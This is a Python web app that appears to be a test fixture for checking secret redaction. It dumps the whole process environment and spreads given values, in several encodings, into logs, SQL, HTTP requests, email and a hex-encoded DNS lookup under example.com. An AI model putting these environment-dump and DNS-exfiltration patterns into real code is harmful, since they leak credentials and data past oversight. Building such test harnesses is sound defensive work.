"""The app that tries: it looks at what systems tell it, byte by byte, and writes what it was given wherever it can."""

import base64
import json
import logging
import os
import smtplib
import socket
import sys
from urllib.parse import quote, urlsplit

import psycopg


def wire(url: str, path: str, body: str = "") -> str:
    """Return every byte of an answer of a system."""
    place = urlsplit(url)
    with socket.create_connection((place.hostname, place.port or 80), timeout=20) as connection:
        method = "POST" if body else "GET"
        head = f"{method} {place.path}{path} HTTP/1.1\r\nhost: {place.hostname}\r\nconnection: close\r\n"
        head += f"content-type: application/json\r\ncontent-length: {len(body.encode())}\r\n\r\n" if body else "\r\n"
        connection.sendall(head.encode() + body.encode())
        found = b""
        while piece := connection.recv(65536):
            found += piece
    return found.decode("latin-1")


def asked(words: str, model: str = "default") -> str:
    body = json.dumps({"model": model, "messages": [{"role": "user", "content": words}]})
    return wire(os.environ["OPENAI_BASE_URL"], "/chat/completions", body)


def queried(statement: str, *parameters: str) -> str:
    try:
        with psycopg.connect(os.environ["ORDERS_URL"]) as connection:
            return str(connection.execute(statement, parameters).fetchall())
    except psycopg.Error as fault:
        return str(fault)


def mailed(words: str) -> str:
    place = urlsplit(os.environ["POST_URL"])
    head = "From: billing@example.com\r\nTo: ann@example.com"
    letter = f"{head}\r\nSubject: {quote(words)}\r\n\r\n{words}"
    try:
        with smtplib.SMTP(place.hostname, place.port, timeout=20) as client:
            return str(client.sendmail("billing@example.com", ["ann@example.com"], letter))
    except (smtplib.SMTPException, OSError) as fault:
        return str(fault)


def look() -> dict[str, str]:
    """Return all that systems answer, which were shown credentials."""
    seen = {}
    for system in ("CRM_URL", "DESK_URL", "SHUT_URL"):
        for path in ("/echo", "/fail", "/refuse", "/forbid", "/moved"):
            seen[f"{system} {path}"] = wire(os.environ[system], path)
    seen["model"] = asked("who am I?")
    seen["database"] = queried("SELECT id, region FROM orders")
    seen["mail"] = mailed("hello")
    seen["environment"] = json.dumps(dict(os.environ))
    return seen


def forms(value: str) -> list[str]:
    raw = value.encode()
    return [value, json.dumps(value), quote(value, safe=""), raw.hex(), base64.b64encode(raw).decode(),
            base64.b64encode(b"user:" + raw).decode(), f"{value[:9]}\n{value[9:]}"]  # fmt: skip


def write(value: str) -> None:
    """Write a value everywhere."""
    for form in forms(value):
        print("printed", form, flush=True)
        logging.getLogger("app").error("logged %s", form)
        sys.stderr.write(f"to stderr {form}\n")
        asked(f"remember {form}")
        queried("SELECT id FROM orders WHERE region = %s", form)
    literal = value.replace("'", "''")
    queried(f"SELECT id FROM orders WHERE region = '{literal}'")
    queried(f"SELECT '{literal}'::int FROM orders")
    queried(f"/* {value} */ SELECT id FROM orders")
    queried(f"SELECT id FROM no_such_table WHERE region = '{literal}'")
    asked("hello", model=value)
    wire(os.environ["CRM_URL"], f"/echo?q={quote(value, safe='')}")
    wire(os.environ["CRM_URL"], f"/{quote(value, safe='')}")
    wire(os.environ["CRM_URL"], "/echo", json.dumps({"text": value}))
    mailed(value)
    host = value.encode().hex()[:63]  # as long as a label may be
    for name in (f"{host}.example.com", f"{quote(value, safe='').replace('%', '').lower()[:60]}.example.com"):
        try:
            socket.getaddrinfo(name, 443)
        except OSError as fault:
            print(fault)


async def app(scope, receive, send):  # type: ignore[no-untyped-def]
    if scope["type"] != "http":
        return
    body, more = b"", True
    while more:
        message = await receive()
        body += message.get("body", b"")
        more = message.get("more_body", False)
    said = {}
    if scope["path"] == "/look":
        said = look()
        print("seen", said, flush=True)
    elif scope["path"] == "/hooks/changes":
        print("delivered", body.decode(), scope["headers"], flush=True)
    elif scope["path"] == "/write":
        for value in json.loads(body):
            write(value)
    elif scope["path"] == "/raise":
        raise RuntimeError(f"it was {json.loads(body)}")
    elif scope["path"] == "/end":
        print("the end of", json.loads(body), flush=True)
        os._exit(3)
    await send({"type": "http.response.start", "status": 200, "headers": []})
    await send({"type": "http.response.body", "body": json.dumps(said).encode()})
